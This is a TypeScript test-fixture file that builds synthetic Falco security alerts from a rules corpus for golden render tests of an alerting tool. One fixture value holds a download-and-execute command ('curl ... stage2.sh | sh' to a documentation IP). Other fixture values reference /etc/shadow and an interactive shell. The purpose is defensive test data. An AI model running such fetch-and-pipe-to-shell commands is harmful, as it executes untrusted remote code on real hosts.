/**
 * Realistic events for golden render tests, built from the Falco rules corpus
 * (`$AERIE_RULES_DIR`, else `<repo>/../shared/corpus/falco-rules`): the first firing rule of each
 * rules file (so every source is covered), plus edge cases — a long output, unicode, a huge field
 * value, fields with brackets and a ns timestamp beyond 2^53. Each event goes through the real
 * Falco parser (`@aerie/detectors`), so cluster, namespace, boundary and fingerprint are the ones
 * ingest would store. Deterministic: no clock, no randomness.
 */
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parsePriority, type JsonValue, type StoredEventDetail } from '@aerie/contracts';
import { apiFields, parseFalcoJson, stringifyLossless } from '@aerie/detectors';
import { parse } from 'yaml';
import type { DeliverableEvent, RenderContext } from '../output.js';

export interface CorpusCase {
  /** File-name friendly, stable: golden files are named after it. */
  name: string;
  event: DeliverableEvent;
}

interface CorpusRule {
  name: string;
  output: string;
  priority: string;
  source: string;
  tags: string[];
  file: string;
}

/** The render context every golden test uses. */
export const GOLDEN_CONTEXT: RenderContext = {
  eventUrl: 'https://aerie.example.com/events/00000000-0000-4000-8000-000000000001',
  now: new Date('2026-05-01T10:00:05.000Z'),
};

const RECEIVED_AT = '2026-05-01T10:00:00.250000Z';
/** 2026-05-01T10:00:00.123456789Z in ns: beyond 2^53, so only exact JSON text keeps it. */
const EVT_TIME_NS = '1777629600123456789';
const TIME = '2026-05-01T10:00:00.123456789Z';

export function resolveRulesDir(): string {
  const fromEnv = process.env['AERIE_RULES_DIR'];
  if (fromEnv) return resolve(fromEnv);
  return fileURLToPath(new URL('../../../../../shared/corpus/falco-rules', import.meta.url));
}

/** Every corpus case, in a stable order. */
export function corpusCases(): CorpusCase[] {
  const rules = loadRules();
  const cases: CorpusCase[] = [];
  const files = [...new Set(rules.map((r) => r.file))];
  for (const file of files) {
    const rule = rules.find((r) => r.file === file);
    if (rule) cases.push(build(cases.length, slug(rule.source, rule.name), rule, {}));
  }
  const shell = pick(rules, 'Terminal shell in container');
  const sensitive = pick(rules, 'Read sensitive file untrusted');
  cases.push(
    build(cases.length, 'long-output', shell, {
      'proc.cmdline': `bash -c ${'curl -fsSL http://203.0.113.24/stage2.sh | sh; '.repeat(60)}`,
    }),
    build(cases.length + 1, 'unicode', sensitive, {
      'user.name': 'José-🛡️-管理者',
      'fd.name': '/srv/données/مرحبا/\u{1F4A5}.key',
      'proc.cmdline': 'cat "/srv/données/مرحبا/💥.key" # ü\u0301 combining',
    }),
    build(cases.length + 2, 'huge-field', sensitive, {
      'proc.env': `PATH=/usr/bin HUGE=${'x'.repeat(20_000)}`,
    }),
    build(cases.length + 3, 'brackets', shell, {
      'proc.aname[2]': 'containerd-shim',
      'proc.aname[3]': 'systemd',
      'jevt.value[/user/username]': 'system:serviceaccount:ci:deployer',
      'okta.mfa.failure.countlast[300]': 7,
    }),
  );
  return cases;
}

function pick(rules: readonly CorpusRule[], name: string): CorpusRule {
  const rule = rules.find((r) => r.name === name);
  if (!rule) throw new Error(`rule "${name}" not found in the Falco rules corpus`);
  return rule;
}

function slug(source: string, rule: string): string {
  const s = `${source}-${rule}`.toLowerCase().replace(/[^a-z0-9]+/g, '-');
  return s.replace(/^-|-$/g, '').slice(0, 60);
}

function loadRules(dir = resolveRulesDir()): CorpusRule[] {
  if (!existsSync(dir)) throw new Error(`Falco rules corpus not found at ${dir} (AERIE_RULES_DIR)`);
  const rules: CorpusRule[] = [];
  for (const file of readdirSync(dir)
    .filter((f) => /\.ya?ml$/.test(f))
    .sort()) {
    const doc: unknown = parse(readFileSync(join(dir, file), 'utf8'));
    if (!Array.isArray(doc)) continue;
    for (const item of doc as unknown[]) {
      if (typeof item !== 'object' || item === null) continue;
      const { rule, output, priority, source, tags, enabled } = item as Record<string, unknown>;
      if (typeof rule !== 'string' || typeof output !== 'string') continue;
      if (typeof priority !== 'string' || enabled === false) continue;
      rules.push({
        name: rule,
        // Folded YAML scalars keep newlines Falco does not print.
        output: output.replace(/\s*\n\s*/g, ' ').trim(),
        priority,
        source: typeof source === 'string' && source !== '' ? source : 'syscall',
        tags: Array.isArray(tags) ? tags.filter((t): t is string => typeof t === 'string') : [],
        file,
      });
    }
  }
  return rules;
}

// `%proc.name`, `%proc.aname[2]`, `%jevt.value[/a/b]`, `%(user.name)`; a trailing dot ends a sentence.
const PLACEHOLDER =
  /%\(([A-Za-z_][\w.]*?(?:\[[^\]]*\])?)\)|%([A-Za-z_][\w.]*?(?:\[[^\]]*\])?)(?=\.?(?:[^\w.[]|$))/g;

/**
 * What Falco's container plugin appends to every syscall alert (`append_output`, the Helm
 * chart's default): the fields from which Aerie derives namespace, pod and image.
 */
const CONTAINER_SUFFIX =
  ' container_id=%container.id container_name=%container.name' +
  ' container_image_repository=%container.image.repository container_image_tag=%container.image.tag' +
  ' k8s_pod_name=%k8s.pod.name k8s_ns_name=%k8s.ns.name';

/** Plausible values for common fields; anything else gets `<last name part>-value`. */
const KNOWN: Readonly<Record<string, JsonValue>> = {
  'proc.name': 'bash',
  'proc.exepath': '/usr/bin/bash',
  'proc.cmdline': 'bash -i',
  'proc.pid': 4242,
  'proc.pname': 'runc',
  'user.name': 'root',
  'user.uid': 0,
  'user.loginuid': -1,
  'container.id': '3f2a9c1b7d4e',
  'container.name': 'payments-api',
  'container.image.repository': 'ghcr.io/acme/payments-api',
  'container.image.tag': '2.14.1',
  'k8s.ns.name': 'payments',
  'k8s.pod.name': 'payments-api-7d9f8b6c5d-x2x7k',
  'fd.name': '/etc/shadow',
  'evt.type': 'openat',
  'ka.user.name': 'system:serviceaccount:ci:deployer',
  'ka.target.namespace': 'payments',
  'ka.target.name': 'payments-api',
};

function fieldValue(field: string): JsonValue {
  const known = KNOWN[field];
  if (known !== undefined) return known;
  const last =
    field
      .replace(/\[.*\]$/, '')
      .split('.')
      .pop() ?? field;
  return `${last}-value`;
}

function build(
  index: number,
  name: string,
  rule: CorpusRule,
  overrides: Readonly<Record<string, JsonValue>>,
): CorpusCase {
  const fields = new Map<string, JsonValue>();
  const template = rule.source === 'syscall' ? `${rule.output}${CONTAINER_SUFFIX}` : rule.output;
  const message = template.replace(PLACEHOLDER, (_m, a?: string, b?: string) => {
    const field = (a ?? b)!;
    const value = overrides[field] ?? fields.get(field) ?? fieldValue(field);
    fields.set(field, value);
    return value === null ? '<NA>' : String(value);
  });
  for (const [k, v] of Object.entries(overrides)) fields.set(k, v);
  if (rule.source === 'syscall') fields.set('evt.time', 0);
  const priority = parsePriority(rule.priority);
  if (!priority) throw new Error(`rule "${rule.name}" has no valid priority`);
  const falco = {
    hostname: 'ip-10-0-10-40.eu-west-1.compute.internal',
    output: `10:00:00.123456789: ${priority} ${message}`,
    output_fields: Object.fromEntries([...fields].sort(([x], [y]) => (x < y ? -1 : 1))),
    priority,
    rule: rule.name,
    source: rule.source,
    tags: [...rule.tags].sort(),
    time: TIME,
  };
  // evt.time as Falco writes it: an integer of ns no double can hold.
  const rawJson = JSON.stringify(falco).replace('"evt.time":0', `"evt.time":${EVT_TIME_NS}`);
  const parsed = parseFalcoJson(rawJson, {
    receivedAt: new Date(RECEIVED_AT),
    defaultCluster: 'prod-eu-west-1',
    customFields: {},
    customTags: [],
  });
  if (!parsed.ok)
    throw new Error(`corpus event "${name}" rejected: ${JSON.stringify(parsed.issues)}`);
  const e = parsed.event;
  const n = String(index + 1).padStart(12, '0');
  const stored = {
    id: `00000000-0000-4000-8000-${n}`,
    seq: index + 1,
    received_at: RECEIVED_AT,
    ...apiFields(e),
    group_id: `00000000-0000-4000-9000-${n}`,
  };
  const eventJson = stringifyLossless(stored, e.hasRawNumbers);
  const event: StoredEventDetail = {
    ...(JSON.parse(eventJson) as Omit<StoredEventDetail, 'raw'>),
    raw: JSON.parse(rawJson) as StoredEventDetail['raw'],
  };
  return { name, event: { event, eventJson, rawJson } };
}
